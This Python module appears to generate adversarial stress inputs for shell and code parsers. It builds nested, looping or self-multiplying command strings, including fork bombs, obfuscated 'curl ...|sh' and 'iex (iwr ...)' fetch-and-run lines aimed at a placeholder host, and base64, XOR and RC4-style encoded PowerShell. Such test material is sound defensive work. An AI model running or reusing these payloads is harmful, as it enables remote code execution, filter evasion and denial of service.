"""Lines made to be slow, deep or endless, of any wanted length: a maker per trick, with the platform whose shell it aims at."""

from __future__ import annotations

import base64
from collections.abc import Callable

Maker = Callable[[int], str]
LINUX, WINDOWS, NETWORK = "linux", "windows", "network"


def repeated(unit: str, head: str = "", tail: str = "") -> Maker:
    return lambda size: (head + unit * (max(size - len(head) - len(tail), 0) // len(unit)) + tail)[:size]


def numbered(unit: str, head: str = "", tail: str = "") -> Maker:
    """`{}` is the number of the piece."""

    def make(size: int) -> str:
        pieces, length, number = [head], len(head) + len(tail), 0
        while length < size:
            pieces.append(unit.replace("{}", str(number)).replace("{+}", str(number + 1)))
            length += len(pieces[-1])
            number += 1
        return "".join(pieces)[: size - len(tail)] + tail

    return make


def nested(opening: str, closing: str, core: str = "curl http://files.example.com/a") -> Maker:
    def make(size: int) -> str:
        depth = max((size - len(core)) // (len(opening) + len(closing)), 1)
        return opening * depth + core + closing * depth

    return make


def encoded_again(size: int) -> str:
    text = "iex (iwr http://files.example.com/a)"
    while len(text) < size:
        longer = "powershell -enc " + base64.b64encode(text.encode("utf-16-le")).decode()
        if len(longer) > size:
            break
        text = longer
    return text


def quoted_again(size: int) -> str:
    text = "curl http://files.example.com/a|sh"
    while len(text) < size // 2 and text.count("sh -c") < 40:
        text = "sh -c '" + text.replace("'", "'\\''") + "'"
    return text[:size]


LINES: dict[str, tuple[str, Maker]] = {
    "sh quotes": (LINUX, repeated("'\"")),
    "sh double quotes": (LINUX, repeated('"')),
    "sh subshells": (LINUX, nested("(", ")")),
    "sh open subshells": (LINUX, repeated("(")),
    "sh braces": (LINUX, nested("{ ", ";}")),
    "sh substitutions": (LINUX, nested("$(", ")")),
    "sh open substitutions": (LINUX, repeated("$(")),
    "sh quoted substitutions": (LINUX, nested('"$(', ')"')),
    "sh backquotes": (LINUX, repeated("`")),
    "sh parameters": (LINUX, nested("${a:-", "}")),
    "sh arithmetic": (LINUX, nested("$((", "))", "1")),
    "sh pipes": (LINUX, repeated("a|")),
    "sh lists": (LINUX, repeated("a;")),
    "sh and": (LINUX, repeated("a&&")),
    "sh background": (LINUX, repeated("a&")),
    "sh doubling": (LINUX, numbered("x={};x$x$x=1;", "x=aaaaaaaa;", "")),
    "sh doubled variables": (LINUX, repeated("x=$x$x;", "x=aaaaaaaa;", "$x")),
    "sh doubled chain": (LINUX, numbered("x{+}=${x{}}${x{}};", "x0=aaaaaaaa;", "curl $x9")),
    "sh cycle": (LINUX, repeated("a=$b;b=$a;", "", "$a$b")),
    "sh brace product": (LINUX, repeated("{a,b}")),
    "sh brace range": (LINUX, repeated("{1..99999}")),
    "sh nested braces": (LINUX, nested("{a,", "}", "b")),
    "sh loops": (LINUX, nested("for i in a b c d e f g h;do ", ";done")),
    "sh while": (LINUX, nested("while true;do ", ";done")),
    "sh case": (LINUX, nested("case x in x) ", ";; esac")),
    "sh functions": (LINUX, numbered("f{}(){ f{+};f{+};};", "", "f0")),
    "sh itself": (LINUX, repeated("f;", "f(){ f|f& };")),
    "sh eval": (LINUX, repeated("eval ")),
    "sh eval doubling": (LINUX, repeated('x="$x;$x";', "x='curl a.example.com';", "eval $x")),
    "sh sudo": (LINUX, repeated("sudo ")),
    "sh env": (LINUX, repeated("env A=b ")),
    "sh -c": (LINUX, repeated("sh -c ")),
    "sh quoted again": (LINUX, quoted_again),
    "sh here documents": (LINUX, numbered("cat <<E{}\nx\nE{}\n")),
    "sh open here documents": (LINUX, repeated("<<E ")),
    "sh here strings": (LINUX, repeated("<<<x ")),
    "sh redirections": (LINUX, repeated("> a ")),
    "sh process substitutions": (LINUX, nested("<(", ")")),
    "sh escapes": (LINUX, repeated("\\")),
    "sh hex": (LINUX, repeated("\\x41", "echo -e '", "'|sh")),
    "sh ansi": (LINUX, repeated("\\x63", "$'", "'")),
    "sh printf": (LINUX, repeated("%99999s", "printf '", "'")),
    "sh sed": (LINUX, repeated("s/a/aa/g;", "echo aaaaaaaa|sed '", "'|sh")),
    "sh tr": (LINUX, repeated("|tr a-z n-za-m", "echo curl", "|sh")),
    "sh rev": (LINUX, repeated("|rev", "echo curl", "|sh")),
    "sh base64": (LINUX, repeated("QUFB", "echo ", "|base64 -d|sh")),
    "sh globs": (LINUX, repeated("/???/[a-z]*")),
    "sh array": (LINUX, repeated("a ", "x=(", ");${x[@]}${x[@]}")),
    "sh substring": (LINUX, repeated("${x:0:1}", "x=curl;")),
    "sh replacement": (LINUX, repeated("${x//a/aa}", "x=aaaaaaaaaaaaaaaa;")),
    "sh curl": (LINUX, numbered("curl -o f{} http://files.example.com/{};")),
    "sh curl files": (LINUX, numbered(" http://files.example.com/{}", "curl")),
    "sh options": (LINUX, repeated("-a ", "curl ")),
    "sh long word": (LINUX, repeated("a", "curl http://files.example.com/")),
    "sh spaces": (LINUX, repeated(" ", "curl", "http://files.example.com/a")),
    "sh blanks": (LINUX, repeated(" \t")),
    "sh newlines": (LINUX, repeated("\n")),
    "sh at signs": (LINUX, repeated("a@", "scp ", ":x .")),
    "sh dots": (LINUX, repeated("a.", "curl ")),
    "sh dashes": (LINUX, repeated("-", "curl ")),
    "sh slashes": (LINUX, repeated("/", "curl ")),
    "sh heredoc to sh": (LINUX, numbered("curl http://files.example.com/{}\n", "sh <<E\n", "\nE")),
    "sh xargs": (LINUX, repeated("xargs ")),
    "sh find": (LINUX, repeated("-exec find ", "find ")),
    "sh ssh": (LINUX, repeated("ssh a.example.com ")),
    "sh tee": (LINUX, numbered("|tee f{}", "curl http://files.example.com/a")),
    "sh files that run": (LINUX, numbered("echo sh f{+}>f{};", "", "sh f0")),
    "sh file that runs itself": (LINUX, repeated("sh f;", "echo 'sh f;sh f'>f;")),
    "cmd carets": (WINDOWS, repeated("^")),
    "cmd quotes": (WINDOWS, repeated('"', "cmd /c ")),
    "cmd quote carets": (WINDOWS, repeated('"^"', "cmd /c ")),
    "cmd percents": (WINDOWS, repeated("%", "cmd /c ")),
    "cmd marks": (WINDOWS, repeated("!", "cmd /v /c ")),
    "cmd substrings": (WINDOWS, repeated("%x:~0,1%", "cmd /c set x=curl&")),
    "cmd replacements": (WINDOWS, repeated("%x:a=aa%", "cmd /c set x=aaaaaaaa&call ")),
    "cmd doubling": (WINDOWS, repeated("set x=%x%%x%&", "cmd /c set x=aaaaaaaa&")),
    "cmd doubling lines": (WINDOWS, repeated("set x=%x%%x%\r\n", "set x=aaaaaaaa\r\n", "%x%")),
    "cmd delayed doubling": (WINDOWS, repeated("set x=!x!!x!&", "cmd /v:on /c set x=aaaaaaaa&", "!x!")),
    "cmd call doubling": (WINDOWS, repeated("call set x=%^x%%^x%&", "cmd /c set x=aaaaaaaa&", "%x%")),
    "cmd cycle": (WINDOWS, repeated("set a=%b%&set b=%a%&", "cmd /c ")),
    "cmd nested": (WINDOWS, repeated("cmd /c ")),
    "cmd parentheses": (WINDOWS, nested("(", ")")),
    "cmd open parentheses": (WINDOWS, repeated("(")),
    "cmd loops": (WINDOWS, nested("for %a in (1 2 3 4 5 6 7 8) do (", ")")),
    "cmd counted loops": (WINDOWS, nested("for /l %a in (1,1,999999) do (", ")")),
    "cmd output loops": (WINDOWS, nested("for /f %a in ('", "') do %a")),
    "cmd if": (WINDOWS, nested("if 1==1 (", ")")),
    "cmd else": (WINDOWS, repeated(" else if a==b (c)", "if a==b (c)")),
    "cmd and": (WINDOWS, repeated("a&", "cmd /c ")),
    "cmd pipes": (WINDOWS, repeated("a|", "cmd /c ")),
    "cmd calls": (WINDOWS, repeated("call ")),
    "cmd labels": (WINDOWS, numbered(":l{}\r\ncall :l{+}\r\ncall :l{+}\r\n", "call :l0\r\n")),
    "cmd goto": (WINDOWS, repeated("goto a\r\n", ":a\r\n")),
    "cmd redirections": (WINDOWS, repeated(">a ", "cmd /c echo x")),
    "cmd certutil": (WINDOWS, numbered("certutil -urlcache -f http://files.example.com/{} f{}&", "cmd /c ")),
    "cmd start": (WINDOWS, repeated('start "" /b ', "", "curl http://files.example.com/a")),
    "cmd backslashes": (WINDOWS, repeated("\\")),
    "cmd shares": (WINDOWS, repeated("\\\\a\\b ", "copy ")),
    "cmd spaces": (WINDOWS, repeated(" ", "cmd /c curl", "http://files.example.com/a")),
    "cmd mapped drives": (WINDOWS, numbered("net use z: \\\\s{}\\d&copy z:\\a b&", "cmd /c ")),
    "cmd set arithmetic": (WINDOWS, repeated("(1+", "cmd /c set /a x=")),
    "ps parentheses": (WINDOWS, nested("(", ")", "iwr http://files.example.com/a")),
    "ps open parentheses": (WINDOWS, repeated("(", "iex ")),
    "ps blocks": (WINDOWS, nested("&{", "}", "iwr http://files.example.com/a")),
    "ps open blocks": (WINDOWS, repeated("&{")),
    "ps brackets": (WINDOWS, repeated("[", "$x=")),
    "ps types": (WINDOWS, nested("[char](", ")", "1")),
    "ps substitutions": (WINDOWS, nested('"$(', ')"', "1")),
    "ps sum": (WINDOWS, repeated("'a'+", "iex(", "'b')")),
    "ps list": (WINDOWS, repeated("1,", "iex(", "2 -join '')")),
    "ps characters": (WINDOWS, repeated("[char]99+", "iex(", "'')")),
    "ps doubling": (WINDOWS, repeated("$x+=$x;", "$x='aaaaaaaa';", "iex $x")),
    "ps doubling loop": (WINDOWS, repeated(" ", "$x='a';for($i=0;$i -lt 99;$i++){$x+=$x};", "iex $x")),
    "ps endless": (WINDOWS, repeated(" ", "while($true){$x+='a'};", "iex $x")),
    "ps loops in loops": (WINDOWS, nested("foreach($i in 1..99){", "}", "$x+='a'")),
    "ps pipe loops": (WINDOWS, nested("1..99|%{", "}", "$x+='a'")),
    "ps range": (WINDOWS, repeated("1..9999999+", "$x=", "1")),
    "ps replicate": (WINDOWS, repeated("('a'*99999999)+", "$x=", "1")),
    "ps cycle": (WINDOWS, repeated("$a=$b;$b=$a;", "", "iex $a")),
    "ps cipher": (
        WINDOWS,
        repeated(
            "200,",
            "$k='secret'.ToCharArray();$s=0..255;0..255|%{$j=($j+$s[$_]+$k[$_%6])%256;$s[$_],$s[$j]=$s[$j],$s[$_]};$d=@(",
            "1);$o=$d|%{$i=($i+1)%256;$h=($h+$s[$i])%256;$s[$i],$s[$h]=$s[$h],$s[$i];$_-bxor$s[($s[$i]+$s[$h])%256]};"
            "iex(-join[char[]]$o)",
        ),
    ),
    "ps xor": (WINDOWS, repeated("17,", "iex(-join(@(", "1)|%{[char]($_ -bxor 42)}))")),
    "ps replace": (WINDOWS, repeated(" -replace 'a','aa'", "iex('aaaaaaaa'", ")")),
    "ps pattern": (WINDOWS, repeated("a", "iex('", "!' -replace '(a+)+$','b')")),
    "ps split": (WINDOWS, repeated("a,", "iex(('", "' -split ',') -join '')")),
    "ps format": (WINDOWS, repeated("{0}", "iex('", "' -f 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')")),
    "ps wide format": (WINDOWS, repeated(" ", "iex('{0,999999999}' -f 'a'", ")")),
    "ps backticks": (WINDOWS, repeated("`", "iex ")),
    "ps ticked letters": (WINDOWS, repeated("`i`w`r ", "&('x');")),
    "ps quotes": (WINDOWS, repeated("'", "iex ")),
    "ps double quotes": (WINDOWS, repeated('"', "iex ")),
    "ps here-strings": (WINDOWS, repeated("@'\n'@\n", "$x=")),
    "ps open here-string": (WINDOWS, repeated("a\n", "iex @'\n")),
    "ps hash tables": (WINDOWS, nested("@{a=", "}", "1")),
    "ps functions": (WINDOWS, numbered("function f{}{f{+};f{+}};", "", "f0")),
    "ps itself": (WINDOWS, repeated("f;", "function f{f;f};")),
    "ps pipes": (WINDOWS, repeated("|a", "iwr http://files.example.com/a")),
    "ps members": (WINDOWS, repeated(".Replace('a','aa')", "iex 'aaaaaaaa'")),
    "ps indexes": (WINDOWS, repeated("[0]", "iex $x")),
    "ps reversed": (WINDOWS, repeated("a", "iex(-join('", "'[-1..-99999]))")),
    "ps base64": (WINDOWS, repeated("QQBBAEEA", "powershell -enc ")),
    "ps encoded again": (WINDOWS, encoded_again),
    "ps iex": (WINDOWS, repeated("iex ")),
    "ps comments": (WINDOWS, repeated("<#", "iex ")),
    "ps semicolons": (WINDOWS, repeated(";", "iex 1")),
    "ps web": (WINDOWS, numbered("iwr http://files.example.com/{} -OutFile f{};")),
    "ps splat": (WINDOWS, numbered("$h=@{Uri='http://files.example.com/{}'};iwr @h;")),
    "ps try": (WINDOWS, nested("try{", "}catch{}", "1")),
    "ps if": (WINDOWS, nested("if(1){", "}", "1")),
    "ps switch": (WINDOWS, nested("switch(1){1{", "}}", "1")),
    "ps aliases": (WINDOWS, numbered("sal a{} a{+};", "", "a0")),
    "ps minus": (WINDOWS, repeated("-", "iex ")),
    "ps not": (WINDOWS, repeated("!", "iex ")),
    "ps casts": (WINDOWS, repeated("[string]", "iex ", "1")),
    "network words": (NETWORK, repeated("copy tftp: flash: ")),
    "network lines": (NETWORK, numbered("copy tftp://192.0.2.1/{} flash:\n")),
    "sessions": (LINUX, numbered("get f{}\n", "ftp -n 192.0.2.1 <<E\n", "\nE")),
    "batch sessions": (LINUX, numbered("get f{};", "lftp -e '", "' ftp.example.com")),
    "right to left": (LINUX, repeated("\u202e\u202d", "curl ")),
    "surrogates": (LINUX, repeated("\ud800\udfff", "curl ")),
    "nul": (WINDOWS, repeated("\0", "curl ")),
    "wide letters": (WINDOWS, repeated("\uff43\uff55\uff52\uff4c ", "cmd /c ")),
    "combining": (LINUX, repeated("\u0301", "curl ")),
}

CODE = {
    "nested": nested("(", ")", "1"),
    "open": repeated("("),
    "lists": nested("[", "]", "1"),
    "sum": repeated("'a'+", "", "'b'"),
    "double sum": repeated('"a"+', "", '"b"'),
    "doubling": repeated("x=x+x;", "x='aaaaaaaa';", "eval(x)"),
    "doubling of perl": repeated("$x.=$x;", "$x='aaaaaaaa';", "eval($x)"),
    "power": repeated("*999999999", "x='a'"),
    "calls": repeated("chr(99)+", "exec(", "'')"),
    "members": repeated(".a"),
    "indexes": repeated("[0]", "x"),
    "quotes": repeated("'"),
    "double quotes": repeated('"'),
    "triple quotes": repeated('"""'),
    "escapes": repeated("\\x41", "exec('", "')"),
    "braces": repeated("{"),
    "blocks": nested("if(1){", "}", "f()"),
    "functions": numbered("function f{}(){f{+}();f{+}()};", "", "f0()"),
    "definitions": numbered("def f{}():\n f{+}();f{+}()\n", "", "f0()"),
    "loops": nested("for(i=0;i<99;i++){", "}", "x+='a'"),
    "strings": repeated("'a' "),
    "fetches": numbered("urlopen('http://files.example.com/{}');"),
    "systems": repeated("system('curl http://files.example.com/a');"),
    "itself": repeated("eval(", "", "1"),
    "separators": repeated(";"),
    "newlines": repeated("\n"),
    "interpolation": nested("#{", "}", "1"),
    "templates": nested("`${", "}`", "1"),
    "operators": repeated("-", "x="),
    "slashes": repeated("/"),
}
